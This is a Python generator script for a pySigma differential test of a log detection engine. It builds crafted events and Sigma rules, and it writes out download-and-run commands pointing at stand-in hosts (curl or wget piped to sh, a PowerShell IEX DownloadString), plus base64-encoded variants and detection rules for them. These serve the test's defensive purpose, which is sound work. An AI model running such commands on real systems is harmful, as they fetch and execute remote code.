#!/usr/bin/env python3
"""Generates the rules and events of the pySigma differential test (diff.py).

    python3 crates/detect/tests/pysigma/generate.py [--corpus DIR] [--sightline BIN]

Writes, next to this file:

* events.jsonl: a deterministic sample of real decoded events (`sightline parse -q` over
  the corpora of ray, mesos, milvus and mlx) plus crafted events that hit the edge cases of
  the rules (wildcard and LIKE/GLOB metacharacters in values, Unicode, numbers as strings,
  missing and empty fields, lists, booleans, encoded command lines, bursts for correlations);
* rules/generated/*.yml: Sigma rules over our field names, most of them built from values
  that occur in the sampled events so that they match something.

Only the standard library is used, and everything random comes from one seeded generator,
so the same corpus gives byte-identical output. The output is checked in: diff.py needs
neither the corpus nor this script. Hand-written rules live in rules/hand/ and are kept.
"""

import argparse
import base64
import hashlib
import json
import random
import re
import shutil
import subprocess
import sys
import uuid
from pathlib import Path

SEED = 20261203
HERE = Path(__file__).resolve().parent
REPO = HERE.parents[3]
SYSTEMS = ["ray", "mesos", "milvus", "mlx"]
# Per system: up to PER_STRATUM events of each (dataset, action), CHUNKS runs of CHUNK
# consecutive lines (real bursts for the correlations) and random events up to PER_SYSTEM.
PER_SYSTEM = 330
PER_STRATUM = 4
CHUNKS, CHUNK = 2, 40
# Larger events are skipped to keep the checked-in sample small (< 2 MB).
MAX_EVENT_BYTES = 2500

rng = random.Random(SEED)


def uid():
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


# --------------------------------------------------------------------------- events


def parse_corpus(corpus, sightline, system):
    out = subprocess.run(
        [sightline, "parse", "-q", str(Path(corpus) / system / "dev")],
        check=True,
        capture_output=True,
        text=True,
    ).stdout
    events = []
    for line in out.splitlines():
        if not line.strip() or len(line) > MAX_EVENT_BYTES:
            continue
        ev = json.loads(line)
        # Machine-specific absolute paths would make the sample differ between checkouts.
        p = ev.get("log.file.path")
        if isinstance(p, str) and "/corpus/" in p:
            ev["log.file.path"] = "corpus/" + p.split("/corpus/", 1)[1]
        events.append(ev)
    return events


def sample_system(events):
    chosen = {}
    strata = {}
    for i, ev in enumerate(events):
        strata.setdefault((ev.get("event.dataset"), ev.get("event.action")), []).append(i)
    for key in sorted(strata, key=str):
        idx = strata[key]
        for i in rng.sample(idx, min(PER_STRATUM, len(idx))):
            chosen[i] = True
    for _ in range(CHUNKS):
        start = rng.randrange(0, max(1, len(events) - CHUNK))
        for i in range(start, min(len(events), start + CHUNK)):
            chosen[i] = True
    rest = [i for i in range(len(events)) if i not in chosen]
    rng.shuffle(rest)
    for i in rest[: max(0, PER_SYSTEM - len(chosen))]:
        chosen[i] = True
    return [events[i] for i in sorted(chosen)]


CRAFT_COUNTER = [0]


def crafted(ts, module, dataset, case, message="", **fields):
    """One crafted event in `sightline parse` form; `case` names the edge case it covers."""
    CRAFT_COUNTER[0] += 1
    n = CRAFT_COUNTER[0]
    ev = {
        "@timestamp": ts,
        "event.id": hashlib.sha256(f"crafted-{SEED}-{n}".encode()).hexdigest()[:32],
        "event.kind": "event",
        "event.module": module,
        "event.dataset": dataset,
        "event.outcome": "unknown",
        "message": message,
        "labels": {"crafted": case},
    }
    for k, v in fields.items():
        ev[k.replace("__", ".")] = v
    ev["event.original"] = fields.pop("original", None) or f"crafted {case}: {message}"
    ev.pop("original", None)
    return ev


def b64(s):
    return base64.b64encode(s.encode()).decode()


def b64_wide(s):
    return base64.b64encode(s.encode("utf-16-le")).decode()


def crafted_events():
    evs = []
    day = "2026-11-25T"
    E = evs.append
    # Values carrying Sigma wildcards and SQL LIKE/GLOB metacharacters literally.
    for i, cmd in enumerate(
        [
            r"echo 50% done_now [x] *star* what? C:\Temp\a*b 'quoted'",
            r"C:\Windows\System32\cmd.exe /c whoami",
            r"dir\*",
            r"dir\file",
            r"a?c",
            "abc",
            r"100%_sure",
            "path[1]/x",
            "it's",
            r"back\\slash",
        ]
    ):
        E(
            crafted(
                f"{day}01:00:{i:02d}Z",
                "ray",
                "ray.job",
                "metachar",
                message=f"job entrypoint {cmd}",
                process__command_line=cmd,
                user__name="svc_ray",
                source__ip="10.7.0.1",
            )
        )
    # Unicode and case.
    for i, name in enumerate(
        ["Jürgen", "JÜRGEN", "straße", "STRASSE", "ΣΊΣΥΦΟΣ", "σίσυφος", "İstanbul", "naïve😀", "ÅSA", "åsa"]
    ):
        E(
            crafted(
                f"{day}02:00:{i:02d}Z",
                "milvus",
                "milvus.access",
                "unicode",
                message=f"<{name}: tcp-10.7.1.{i}:5000> Search [status: Successful]",
                user__name=name,
                source__ip=f"10.7.1.{i}",
                event__action="data-searched",
            )
        )
    # Numbers as strings, floats, signs, leading zeros, spaces.
    for i, (code, pid) in enumerate(
        [("401", "007"), ("401.0", 7), (401, "7"), (" 403", 70), ("4O1", "-5"), (500, 1e3), (200.5, 0), ("1e3", "12abc")]
    ):
        E(
            crafted(
                f"{day}03:00:{i:02d}Z",
                "ray",
                "ray.dashboard",
                "numbers",
                message=f"POST /api/jobs/ {code}",
                http__response__status_code=code,
                process__pid=pid,
                source__ip="10.7.2.1",
                url__path="/api/jobs/",
            )
        )
    # Missing and empty fields, null in the source JSON (absent for both engines).
    E(crafted(f"{day}04:00:00Z", "mlx", "mlx.inference", "empty", message="", user__name="", source__ip="10.7.3.1"))
    E(crafted(f"{day}04:00:01Z", "mlx", "mlx.inference", "missing", message="no user here", source__ip="10.7.3.2"))
    E(crafted(f"{day}04:00:02Z", "mlx", "mlx.inference", "null", message="null user", user__name=None))
    E(crafted(f"{day}04:00:03Z", "mlx", "mlx.inference", "space", message=" ", user__name=" ", source__ip=""))
    # Lists.
    for i, roles in enumerate([["admin", "ops"], ["public"], ["Admin"], ["ops", "dev", "admin"], []]):
        E(
            crafted(
                f"{day}05:00:{i:02d}Z",
                "milvus",
                "milvus.proxy",
                "lists",
                message=f"roles {roles}",
                user__name=f"list_user_{i}",
                user__roles=roles,
                tags=["sightline", f"t{i}"],
                event__category=["iam", "database"] if i % 2 else ["iam"],
                event__action="user-role-changed",
            )
        )
    # Booleans, and the strings true/false.
    for i, v in enumerate([True, False, "true", "TRUE", "false", 1, 0]):
        E(
            crafted(
                f"{day}06:00:{i:02d}Z",
                "mlx",
                "mlx.inference",
                "booleans",
                message="model load",
                mlx__model__pickle_allowed=v,
                mlx__model__name=f"model-{i}",
            )
        )
    # Encoded command lines (base64, base64offset, UTF-16), windash variants.
    payloads = [
        "curl http://evil.example/x.sh | sh",
        "wget -q -O- http://evil.example/p | bash",
        "xcurl http://a",
        "xxcurl http://b",
        "IEX (New-Object Net.WebClient).DownloadString('http://evil')",
    ]
    for i, p in enumerate(payloads):
        E(
            crafted(
                f"{day}07:00:{i:02d}Z",
                "ray",
                "ray.job",
                "base64",
                message=f"entrypoint: echo {b64(p)} | base64 -d | sh",
                process__command_line=f"echo {b64(p)} | base64 -d | sh",
                source__ip="10.7.4.1",
            )
        )
        E(
            crafted(
                f"{day}07:01:{i:02d}Z",
                "ray",
                "ray.job",
                "base64-wide",
                message=f"powershell -enc {b64_wide(p)}",
                process__command_line=f"powershell.exe -NoP -enc {b64_wide(p)}",
                source__ip="10.7.4.2",
            )
        )
    for i, flag in enumerate(["-", "/", "\u2013", "\u2014", "\u2015", "+"]):
        E(
            crafted(
                f"{day}07:02:{i:02d}Z",
                "ray",
                "ray.job",
                "windash",
                message=f"cmd {flag}c whoami",
                process__command_line=f"cmd.exe {flag}c whoami {flag}enc abc",
            )
        )
    # IP addresses for cidr.
    for i, ip in enumerate(
        ["10.1.2.3", "10.255.0.1", "192.168.10.20", "172.16.5.4", "172.32.0.1", "fd00::1", "2001:db8::5",
         "[::1]", "10.1.2.3 ", "::ffff:10.1.2.3", "not-an-ip", "10.1.2.300"]
    ):
        E(
            crafted(
                f"{day}08:00:{i:02d}Z",
                "mesos",
                "mesos.master",
                "cidr",
                message=f"connection from {ip}",
                source__ip=ip,
                destination__ip="10.20.0.11",
                event__action="http-request",
            )
        )
    # Field references.
    for i, (a, b) in enumerate([("alice", "alice"), ("Alice", "alice"), ("alice", "bob"), ("alice", "al"), ("x%y", "x_y"), ("50%", "5")]):
        E(
            crafted(
                f"{day}09:00:{i:02d}Z",
                "milvus",
                "milvus.access",
                "fieldref",
                message=f"{a} changed role of {b}",
                user__name=a,
                user__target__name=b,
                event__action="user-role-changed",
            )
        )
    # Times for the time-part modifiers (hours, a Sunday, ISO week 53 / %W week 0).
    for i, ts in enumerate(
        ["2026-11-22T23:59:59Z", "2026-11-23T00:00:00Z", "2027-01-01T03:30:00Z", "2027-01-03T22:15:00Z",
         "2027-01-04T12:00:00.5Z", "2026-12-31T22:00:00Z"]
    ):
        E(crafted(ts, "mesos", "mesos.master", "time", message="login at odd hour", user__name="night_owl",
                  event__action="authentication-succeeded"))
    # Multi-line text for re flags m and s.
    E(crafted(f"{day}10:00:00Z", "ray", "ray.worker", "multiline", message="Traceback (most recent call last):\nValueError: bad\nEND",
              error__message="first line\nsecond LINE\nthird"))
    E(crafted(f"{day}10:00:01Z", "ray", "ray.worker", "multiline", message="single line ValueError: bad END",
              error__message="first line second LINE third"))
    # Correlation bursts: failed logins per source.ip, with exact-boundary spacing.
    def auth_fail(ts, ip, user, case):
        E(crafted(ts, "ray", "ray.dashboard", case, message=f"401 Unauthorized for {user} from {ip}",
                  source__ip=ip, user__name=user, http__response__status_code=401,
                  event__action="authentication-failed", url__path="/api/jobs/"))

    for s in range(6):
        auth_fail(f"2026-11-26T10:00:{s * 10:02d}Z", "10.9.0.1", "admin", "burst")
    for m in range(4):  # one every 6 minutes: never 3 in 5 minutes
        auth_fail(f"2026-11-26T11:{m * 6:02d}:00Z", "10.9.0.2", "admin", "spread")
    for m in range(3):  # exactly 5 minutes apart: inclusive edges put 3 in a 10m window only
        auth_fail(f"2026-11-26T12:{m * 5:02d}:00Z", "10.9.0.3", "root", "boundary")
    for s, user in enumerate(["alice", "bob", "carol", "dave", "eve", "Alice", "ALICE"]):
        auth_fail(f"2026-11-26T13:00:{s * 5:02d}Z", "10.9.0.4", user, "spray")
    for s, ip in enumerate(["10.9.0.5", "10.9.0.5", "10.9.0.5"]):
        E(crafted(f"2026-11-26T14:00:{s:02d}Z", "ray", "ray.dashboard", "no-user", message="401 Unauthorized",
                  source__ip=ip, http__response__status_code=401, event__action="authentication-failed"))
    for s, ip in enumerate(["Host-A", "host-a", "HOST-A"]):  # group keys differing in case only
        E(crafted(f"2026-11-26T14:10:{s:02d}Z", "ray", "ray.dashboard", "group-case", message="401 Unauthorized",
                  source__ip="10.9.0.6", host__name=ip, http__response__status_code=401,
                  event__action="authentication-failed"))
    for s in range(3):  # no group-by field at all
        E(crafted(f"2026-11-26T14:20:{s:02d}Z", "ray", "ray.dashboard", "no-group", message="401 Unauthorized",
                  http__response__status_code=401, event__action="authentication-failed"))
    # Temporal: submit then run (in order), run then submit (reversed), submit only.
    def submit(ts, ip, case):
        E(crafted(ts, "ray", "ray.dashboard", case, message="POST /api/jobs/ 200", source__ip=ip,
                  event__action="job-submitted", http__response__status_code=200, url__path="/api/jobs/"))

    def run(ts, ip, case, cmd="bash -c 'curl -s http://x/x.sh | sh'"):
        E(crafted(ts, "ray", "ray.job", case, message=f"Running entrypoint: {cmd}", source__ip=ip,
                  event__action="process-started", process__command_line=cmd))

    submit("2026-11-26T15:00:00Z", "10.9.1.1", "ordered")
    run("2026-11-26T15:00:30Z", "10.9.1.1", "ordered")
    run("2026-11-26T15:10:00Z", "10.9.1.2", "reversed")
    submit("2026-11-26T15:10:20Z", "10.9.1.2", "reversed")
    submit("2026-11-26T15:20:00Z", "10.9.1.3", "submit-only")
    submit("2026-11-26T15:30:00Z", "10.9.1.4", "far-apart")
    run("2026-11-26T15:45:00Z", "10.9.1.4", "far-apart")
    submit("2026-11-26T15:50:00Z", "10.9.1.5", "same-second")
    run("2026-11-26T15:50:00Z", "10.9.1.5", "same-second")
    # Bursts of failed Milvus authentications feeding a chain (correlation of correlations).
    for burst in range(3):
        for s in range(4):
            E(crafted(f"2026-11-26T16:{burst * 3:02d}:{s * 5:02d}Z", "milvus", "milvus.proxy", "chain",
                      message="auth failed", source__ip="10.9.2.1", user__name="root",
                      event__action="authentication-failed"))
    # Values for numeric comparisons on strings and floats.
    for i, lat in enumerate([0.5, 12, "15", "1e2", "fast", 250.25, -3]):
        E(crafted(f"{day}11:00:{i:02d}Z", "mlx", "mlx.inference", "latency", message=f"latency {lat}",
                  mlx__latency_ms=lat, user__name="bench"))
    return evs


# --------------------------------------------------------------------------- YAML writing


PLAIN_KEY = re.compile(r"^[A-Za-z_][A-Za-z0-9_.|\-]*$")


def yq(s):
    """A YAML scalar for a string: single-quoted (backslashes literal), or JSON-style double
    quotes when it holds characters a single-quoted scalar cannot carry unfolded."""
    if any(c in s for c in "\n\r\t") or any(ord(c) < 32 for c in s):
        return json.dumps(s, ensure_ascii=False)
    return "'" + s.replace("'", "''") + "'"


def ykey(k):
    return k if PLAIN_KEY.match(k) else yq(k)


def yval(v, indent):
    pad = " " * indent
    if v is None:
        return " null"
    if isinstance(v, bool):
        return " true" if v else " false"
    if isinstance(v, (int, float)):
        return f" {v}"
    if isinstance(v, str):
        return " " + yq(v)
    if isinstance(v, list):
        if not v:
            return " []"
        out = ""
        for x in v:
            if isinstance(x, dict):
                body = yblock(x, indent + 4).lstrip()
                out += f"\n{pad}  - {body}"
            else:
                out += f"\n{pad}  -{yval(x, indent + 4)}"
        return out
    if isinstance(v, dict):
        return "\n" + yblock(v, indent + 4)
    raise TypeError(v)


def yblock(d, indent):
    pad = " " * indent
    lines = []
    for k, v in d.items():
        lines.append(f"{pad}{ykey(k)}:{yval(v, indent)}")
    return "\n".join(lines)


def ydoc(d):
    return yblock(d, 0) + "\n"


# --------------------------------------------------------------------------- rules


class Rules:
    def __init__(self):
        self.files = {}  # file name -> list of documents

    def add(self, family, title, detection, logsource=None, name=None, extra=None, file=None):
        doc = {"title": title, "id": uid()}
        if name:
            doc["name"] = name
        doc["status"] = "test"
        doc["description"] = f"pySigma differential test, family {family}."
        doc["author"] = "Sightline generate.py"
        doc["date"] = "2026-12-03"
        doc["logsource"] = logsource or {"product": "ray"}
        doc["detection"] = detection
        doc["level"] = "low"
        if extra:
            doc.update(extra)
        key = file or f"{family}_{len([f for f in self.files if f.startswith(family + '_')]):03d}.yml"
        self.files.setdefault(key, []).append(doc)
        return doc

    def add_doc(self, file, doc):
        self.files.setdefault(file, []).append(doc)

    def write(self, outdir):
        if outdir.exists():
            shutil.rmtree(outdir)
        outdir.mkdir(parents=True)
        for name, docs in sorted(self.files.items()):
            text = "---\n".join(ydoc(d) for d in docs)
            (outdir / name).write_text(text, encoding="utf-8")
        return sum(len(d) for d in self.files.values())


MODULE_PRODUCT = {"ray": "ray", "mesos": "mesos", "milvus": "milvus", "mlx": "mlx", "json": "json", "text": "text"}
SKIP_FIELDS = {"event.original", "log.file.path", "sightline.log.offset", "event.kind"}


def logsource_for(ev):
    """A log source that covers the event, varied between product, product+service and category."""
    module = ev["event.module"]
    r = rng.random()
    if r < 0.15 and ev["event.dataset"].startswith(module + "."):
        return {"product": MODULE_PRODUCT.get(module, module), "service": ev["event.dataset"].split(".", 1)[1]}
    if r < 0.25 and ev.get("event.category"):
        cat = ev["event.category"][0]
        return {"category": {"web": "webserver", "process": "process_creation"}.get(cat, cat)}
    if r < 0.30:
        return {"product": module, "definition": "every event of the module"}
    return {"product": MODULE_PRODUCT.get(module, module)}


def pick(events, pred, tries=400):
    """A random (event, field, value) whose value satisfies pred(field, value)."""
    for _ in range(tries):
        ev = rng.choice(events)
        fields = [k for k in ev if k not in SKIP_FIELDS and pred(k, ev[k])]
        if fields:
            f = rng.choice(sorted(fields))
            return ev, f, ev[f]
    raise RuntimeError("no value found")


def is_text(k, v, lo=4, hi=120):
    return isinstance(v, str) and lo <= len(v) <= hi and "\n" not in v


def recase(s):
    r = rng.random()
    if r < 0.3:
        return s.upper()
    if r < 0.5:
        return s.swapcase()
    return s


def sigma_escape(s):
    """Escapes Sigma wildcards and backslashes so the value is matched literally."""
    return s.replace("\\", "\\\\").replace("*", "\\*").replace("?", "\\?")


def gen_modifier_rules(R, events, crafted_evs):
    real = events
    # 1. Plain equality, sometimes with changed case.
    for i in range(16):
        ev, f, v = pick(real, lambda k, v: is_text(k, v))
        R.add("eq", f"Equality on {f} #{i}", {"sel": {f: recase(sigma_escape(v))}, "condition": "sel"}, logsource_for(ev))
    # 2. Integer equality, a list of integers, an integer written as a string.
    for i in range(8):
        ev, f, v = pick(real, lambda k, v: isinstance(v, int) and not isinstance(v, bool) and k != "sightline.log.offset")
        val = [v, v + 1] if i % 3 == 1 else (str(v) if i % 3 == 2 else v)
        R.add("num", f"Number on {f} #{i}", {"sel": {f: val}, "condition": "sel"}, logsource_for(ev))
    R.add("num", "Status 401 as number", {"sel": {"http.response.status_code": 401}, "condition": "sel"}, {"product": "ray"})
    R.add("num", "Status 401 as string", {"sel": {"http.response.status_code": "401"}, "condition": "sel"}, {"product": "ray"})
    R.add("num", "Pid 7", {"sel": {"process.pid": 7}, "condition": "sel"}, {"product": "ray"})
    R.add("num", "Cpus 1.0", {"sel": {"mesos.resources.cpus": 1.0}, "condition": "sel"}, {"product": "mesos"})
    # 3. contains / contains|all.
    for i in range(16):
        ev, f, v = pick(real + crafted_evs, lambda k, v: is_text(k, v, 6, 400))
        a = rng.randrange(0, len(v) - 3)
        sub = v[a : a + rng.randint(3, 10)]
        R.add("contains", f"Contains in {f} #{i}", {"sel": {f + "|contains": recase(sigma_escape(sub))}, "condition": "sel"}, logsource_for(ev))
    for i in range(8):
        ev, f, v = pick(real, lambda k, v: is_text(k, v, 10, 400))
        subs = []
        for _ in range(rng.randint(2, 3)):
            a = rng.randrange(0, len(v) - 3)
            subs.append(sigma_escape(v[a : a + rng.randint(3, 6)]))
        if i % 4 == 3:
            subs.append("zz-not-there")
        R.add("contains_all", f"Contains all in {f} #{i}", {"sel": {f + "|contains|all": subs}, "condition": "sel"}, logsource_for(ev))
    # 4. startswith / endswith (lists of values, case changes).
    for mod in ("startswith", "endswith"):
        for i in range(10):
            ev, f, v = pick(real, lambda k, v: is_text(k, v, 5))
            n = rng.randint(2, len(v) - 1)
            part = v[:n] if mod == "startswith" else v[-n:]
            vals = [recase(sigma_escape(part))]
            if i % 3 == 0:
                vals.append("no-such-" + mod)
            R.add(mod, f"{mod} on {f} #{i}", {"sel": {f"{f}|{mod}": vals if len(vals) > 1 else vals[0]}, "condition": "sel"}, logsource_for(ev))
    # 5. Wildcards * and ? in plain values.
    for i in range(14):
        ev, f, v = pick(real, lambda k, v: is_text(k, v, 6))
        chars = list(sigma_escape(v))
        out = []
        for c in chars:
            r = rng.random()
            if c not in "\\*?" and r < 0.12:
                out.append("?")
            elif c not in "\\*?" and r < 0.2:
                out.append("*")
            else:
                out.append(c)
        R.add("wildcard", f"Wildcards on {f} #{i}", {"sel": {f: "".join(out)}, "condition": "sel"}, logsource_for(ev))
    # 6. Escapes against the crafted metacharacter values.
    for i, val in enumerate([r"dir\*", r"dir\\*", r"dir\\\*", r"a\?c", "a?c", r"*\*star\**", r"C:\Windows\*", r"*50%*", r"*done_now*", r"*[x]*", r"path[1]*", r"*it's*", r"back\\\\slash", r"back\\slash"]):
        R.add("escape", f"Escapes {val}", {"sel": {"process.command_line": val}, "condition": "sel"}, {"product": "ray", "service": "job"})
    # 7. Regular expressions with flags.
    for i in range(10):
        ev, f, v = pick(real, lambda k, v: is_text(k, v, 6))
        a = rng.randrange(0, len(v) - 4)
        lit = re.escape(v[a : a + 5])
        pat = rng.choice([f"{lit}", f"^{re.escape(v[:3])}.*", f"{lit}[^ ]*$", f"({lit}|zzz)", f"{re.escape(v[:2])}.{{1,3}}"])
        flags = rng.choice(["", "|i", "", "|i"])
        val = pat.swapcase() if flags == "|i" else pat
        R.add("re", f"Regex on {f} #{i}", {"sel": {f"{f}|re{flags}": val}, "condition": "sel"}, logsource_for(ev))
    for mods, pat in [("|re", "^second"), ("|re|m", "^second"), ("|re|s", "first.*third"), ("|re", "first.*third"),
                      ("|re|i|m", "^SECOND line$"), ("|re|m|s", "^first.+^third$"), ("|re", "line$"), ("|re|m", "line$")]:
        R.add("re_flags", f"Regex flags {mods} {pat}", {"sel": {f"error.message{mods}": pat}, "condition": "sel"}, {"product": "ray"})
    R.add("re", "Regex on unicode user", {"sel": {"user.name|re|i": "^jürgen$"}, "condition": "sel"}, {"product": "milvus"})
    R.add("re", "Regex on number field", {"sel": {"http.response.status_code|re": "^40[13]$"}, "condition": "sel"}, {"product": "ray"})
    # 8. cidr.
    for i, nets in enumerate([["10.0.0.0/8"], ["10.1.0.0/16", "192.168.0.0/16"], ["172.16.0.0/12"], ["fd00::/8"],
                              ["2001:db8::/32", "::1/128"], ["10.1.2.3"], ["10.20.0.0/16"], ["10.40.0.0/14"], ["0.0.0.0/0"], ["10.1.2.0/23"]]):
        R.add("cidr", f"CIDR {nets}", {"sel": {"source.ip|cidr": nets if len(nets) > 1 else nets[0]}, "condition": "sel"},
              {"product": rng.choice(["mesos", "milvus", "ray", "mlx"])} if i > 2 else {"product": "mesos"})
    # 9. Encodings.
    R.add("base64", "Base64 of whole value", {"sel": {"process.command_line|base64": "curl http://evil.example/x.sh | sh"}, "condition": "sel"})
    R.add("base64", "Base64 contains", {"sel": {"process.command_line|base64|contains": "curl http://evil.example/x.sh | sh"}, "condition": "sel"})
    for i, p in enumerate(["curl", "wget -q", "http://", "evil.example", "IEX"]):
        R.add("base64offset", f"Base64offset {p}", {"sel": {"process.command_line|base64offset|contains": p}, "condition": "sel"})
    for i, (mod, p) in enumerate([("wide", "IEX"), ("utf16le", "Net.WebClient"), ("wide", "curl"), ("utf16be", "IEX"), ("utf16", "IEX")]):
        R.add("utf16", f"UTF-16 {mod} {p}", {"sel": {f"process.command_line|{mod}|base64offset|contains": p}, "condition": "sel"})
    R.add("base64offset", "Base64offset list", {"sel": {"message|base64offset|contains": ["curl", "bash"]}, "condition": "sel"})
    # 10. windash.
    for i, p in enumerate([" -c ", " /c whoami", " -enc ", "-c"]):
        R.add("windash", f"Windash {p!r}", {"sel": {"process.command_line|windash|contains": p}, "condition": "sel"}, {"product": "ray", "service": "job"})
    # 11. exists.
    for i in range(6):
        ev, f, v = pick(real, lambda k, v: not k.startswith("event.") and k != "message")
        R.add("exists", f"Exists {f} {i % 2 == 0}", {"sel": {"event.action|exists": True, f + "|exists": i % 2 == 0}, "condition": "sel"}, logsource_for(ev))
    R.add("exists", "Exists user.name (empty counts)", {"sel": {"user.name|exists": True}, "condition": "sel"}, {"product": "mlx"})
    # 12. fieldref.
    for mods in ["", "|contains", "|startswith", "|endswith", "|cased"]:
        R.add("fieldref", f"Fieldref{mods}", {"sel": {f"user.name|fieldref{mods}": "user.target.name"}, "condition": "sel"}, {"product": "milvus"})
    R.add("fieldref", "Fieldref trace ids", {"sel": {"milvus.trace_id|fieldref": "trace.id"}, "condition": "sel"}, {"product": "milvus"})
    R.add("fieldref", "Fieldref source equals destination", {"sel": {"source.ip|fieldref": "destination.ip"}, "condition": "sel"}, {"product": "mesos"})
    # 13. Numeric comparisons.
    for i in range(10):
        ev, f, v = pick(real, lambda k, v: isinstance(v, (int, float)) and not isinstance(v, bool) and k != "sightline.log.offset")
        op = rng.choice(["gt", "gte", "lt", "lte"])
        R.add("compare", f"{op} on {f} #{i}", {"sel": {f"{f}|{op}": v}, "condition": "sel"}, logsource_for(ev))
    for op, x in [("gt", 10), ("gte", 15), ("lt", 1), ("lte", 12)]:
        R.add("compare", f"latency {op} {x}", {"sel": {f"mlx.latency_ms|{op}": x}, "condition": "sel"}, {"product": "mlx"})
    R.add("compare", "Status range", {"sel": {"http.response.status_code|gte": 400, "http.response.status_code|lt": 500}, "condition": "sel"}, {"product": "ray"})
    R.add("compare", "Status gt float", {"sel": {"http.response.status_code|gt": 400.5}, "condition": "sel"}, {"product": "ray"})
    # 14. cased.
    for i in range(6):
        ev, f, v = pick(real, lambda k, v: is_text(k, v, 5) and any(c.isupper() for c in v))
        mod = rng.choice(["|cased", "|contains|cased", "|startswith|cased", "|endswith|cased"])
        val = v if "contains" not in mod and "with" not in mod else (v[1:-1] if "contains" in mod else (v[:4] if "start" in mod else v[-4:]))
        if i % 2:
            val = val.swapcase()
        R.add("cased", f"Cased {mod} on {f} #{i}", {"sel": {f + mod: sigma_escape(val)}, "condition": "sel"}, logsource_for(ev))
    for val in ["Jürgen", "JÜRGEN", "J?rgen", "*SSE", "[x]*"]:
        R.add("cased", f"Cased {val}", {"sel": {"user.name|cased": val}, "condition": "sel"}, {"product": "milvus"})
    R.add("cased", "Cased metachar", {"sel": {"process.command_line|contains|cased": "[x] *"}, "condition": "sel"}, {"product": "ray"})
    # 15. expand (placeholders in placeholders.json).
    R.add("expand", "Expand admins", {"sel": {"user.name|expand": "%Admins%"}, "condition": "sel"}, {"product": "ray"})
    R.add("expand", "Expand scanners", {"sel": {"source.ip|expand": "%Scanners%"}, "condition": "sel"}, {"product": "ray"})
    R.add("expand", "Expand service accounts", {"sel": {"user.name|expand": "svc_%Svc%"}, "condition": "sel"}, {"product": "milvus"})
    # 16. null and empty values.
    R.add("null", "user.name null", {"sel": {"event.action": "data-searched", "user.name": None}, "condition": "sel"}, {"product": "milvus"})
    R.add("null", "user.name empty", {"sel": {"user.name": ""}, "condition": "sel"}, {"product": "mlx"})
    R.add("null", "user.name not null", {"sel": {"user.name": None}, "condition": "not sel"}, {"product": "mlx"})
    R.add("null", "source.ip empty or null", {"sel": {"source.ip": ["", None]}, "condition": "sel"}, {"product": "mlx"})
    R.add("null", "message empty", {"sel": {"message": ""}, "condition": "sel"}, {"product": "mlx"})
    R.add("null", "roles null", {"sel": {"user.roles": None, "event.action": "user-role-changed"}, "condition": "sel"}, {"product": "milvus"})
    # 17. neq.
    R.add("neq", "Method neq Search", {"sel": {"milvus.method|neq": "Search", "event.action": "data-searched"}, "condition": "sel"}, {"product": "milvus"})
    R.add("neq", "Status neq 200", {"sel": {"http.response.status_code|neq": 200}, "condition": "sel"}, {"product": "ray"})
    R.add("neq", "user neq list", {"sel": {"user.name|neq": ["root", "search_api"]}, "condition": "sel"}, {"product": "milvus"})
    R.add("neq", "user neq all", {"sel": {"user.name|neq|all": ["root", "search_api"]}, "condition": "sel"}, {"product": "milvus"})
    # 18. Time parts.
    for part, op, x in [("hour", "gte", 22), ("hour", "lt", 4), ("minute", "gte", 30), ("day", "lte", 3), ("week", "gte", 53),
                        ("week", "lte", 1), ("month", "gte", 12), ("year", "gte", 2027)]:
        R.add("time", f"@timestamp {part} {op} {x}", {"sel": {f"@timestamp|{part}|{op}": x}, "condition": "sel"}, {"product": "mesos"})
    R.add("time", "@timestamp hour equals 3", {"sel": {"@timestamp|hour": 3}, "condition": "sel"}, {"product": "mesos"})
    # 19. Booleans.
    R.add("bool", "pickle allowed", {"sel": {"mlx.model.pickle_allowed": True}, "condition": "sel"}, {"product": "mlx"})
    R.add("bool", "pickle not allowed", {"sel": {"mlx.model.pickle_allowed": False}, "condition": "sel"}, {"product": "mlx"})
    R.add("bool", "pickle allowed as string", {"sel": {"mlx.model.pickle_allowed": "true"}, "condition": "sel"}, {"product": "mlx"})
    R.add("bool", "ray node is head", {"sel": {"ray.node.is_head": True}, "condition": "sel"}, {"product": "ray"})
    # 20. Lists (any element) and |all over a list field.
    for val, mod in [("admin", ""), ("ADMIN", ""), (["ops", "dev"], ""), (["admin", "ops"], "|all"), ("adm*", ""), ("database", "")]:
        f = "event.category" if val == "database" else "user.roles"
        R.add("list", f"List field {f}{mod} {val}", {"sel": {f + mod: val}, "condition": "sel"}, {"product": "milvus"})
    R.add("list", "Tags contain t3", {"sel": {"tags": "t3"}, "condition": "sel"}, {"product": "milvus"})
    R.add("list", "Not admin role", {"sel": {"event.action": "user-role-changed"}, "adm": {"user.roles": "admin"}, "condition": "sel and not adm"}, {"product": "milvus"})


def gen_keyword_rules(R, events):
    for i in range(12):
        ev, f, v = pick(events, lambda k, v: k == "message" and is_text(k, v, 8, 400))
        a = rng.randrange(0, len(v) - 5)
        kw = sigma_escape(v[a : a + rng.randint(4, 9)])
        det = {"keywords": [recase(kw)] + (["zz-absent-keyword"] if i % 3 == 0 else []), "condition": "keywords"}
        if i % 4 == 1:
            det = {"keywords": recase(kw), "condition": "keywords"}
        R.add("keyword", f"Keyword {kw!r}", det, logsource_for(ev))
    R.add("keyword", "Keywords all", {"keywords": {"|all": ["Unauthorized", "401"]}, "condition": "keywords"}, {"product": "ray"})
    R.add("keyword", "Keyword wildcard", {"keywords": ["*xmrig*tar.gz"], "condition": "keywords"}, {"product": "mesos"})
    R.add("keyword", "Keyword ? wildcard", {"keywords": ["Unauthori?ed"], "condition": "keywords"}, {"product": "ray"})
    R.add("keyword", "Keyword number", {"keywords": [401], "condition": "keywords"}, {"product": "ray"})
    R.add("keyword", "Keyword unicode", {"keywords": ["jürgen"], "condition": "keywords"}, {"product": "milvus"})
    R.add("keyword", "Keyword and field", {"keywords": ["Traceback"], "sel": {"event.dataset": "ray.worker"}, "condition": "keywords and sel"}, {"product": "ray"})
    R.add("keyword", "Not keyword", {"sel": {"event.action": "authentication-failed"}, "keywords": ["Unauthorized"], "condition": "sel and not keywords"}, {"product": "ray"})
    R.add("keyword", "Keyword base64offset", {"keywords": {"|base64offset|contains": ["curl http"]}, "condition": "keywords"}, {"product": "ray"})


def gen_condition_rules(R, events):
    def sel_from(ev):
        keys = [k for k in ev if k not in SKIP_FIELDS and k not in ("@timestamp", "event.id") and not isinstance(ev[k], (list, dict))]
        f = rng.choice(sorted(keys))
        v = ev[f]
        if isinstance(v, str) and len(v) > 6 and rng.random() < 0.5:
            return {f + "|contains": sigma_escape(v[1:5])}
